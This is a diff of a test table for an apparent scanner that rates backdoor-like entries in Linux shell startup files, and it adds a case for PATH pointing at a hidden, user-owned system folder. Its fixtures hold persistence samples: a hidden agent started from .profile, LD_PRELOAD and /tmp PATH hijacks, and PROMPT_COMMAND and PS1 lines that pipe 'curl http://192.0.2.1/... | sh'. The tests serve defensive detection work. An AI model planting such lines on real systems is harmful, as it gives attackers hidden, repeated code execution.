@@ -45,6 +45,7 @@ test.each<[string, Machine, string[]]>([
 	['a program from a hidden place within another', { '/home/ann/.profile': own('nohup ~/.config/.gnome/agent >/dev/null 2>&1 &\n'), '/home/ann/.config/.gnome/agent': { mode: 0o755, uid: 1000, content: '\x7fELF' } }, ['medium /home/ann/.profile']],
 	['a library for each program', { '/home/ann/.zshenv': own('export LD_PRELOAD=/tmp/x.so\n'), '/tmp/x.so': '' }, ['high /home/ann/.zshenv']],
 	['programs are looked for in /tmp', { '/etc/profile': 'export PATH=/tmp/bin:$PATH\n' }, ['high /etc/profile']],
+	['programs are looked for in a hidden system folder that somebody owns', { '/root/.bashrc': 'export PATH=/usr/lib/.x:$PATH\n', '/usr/lib/.x': { kind: 'directory', uid: 1000 } }, ['high /root/.bashrc']],
 	["root's programs are looked for in another account's folder", { '/root/.bashrc': 'export PATH=/home/ann/bin:$PATH\n', '/home/ann/bin': { kind: 'directory', uid: 1000 } }, ['low /root/.bashrc']],
 	['what a command is about to run is run first', { '/root/.bashrc': "PROMPT_COMMAND='curl -s http://192.0.2.1/x | sh'\n" }, ['high /root/.bashrc']],
 	['a prompt that downloads', { '/home/ann/.bash_profile': own("PS1='$(curl -s http://192.0.2.1/k | sh)\\u@\\h\\$ '\n") }, ['high /home/ann/.bash_profile']],
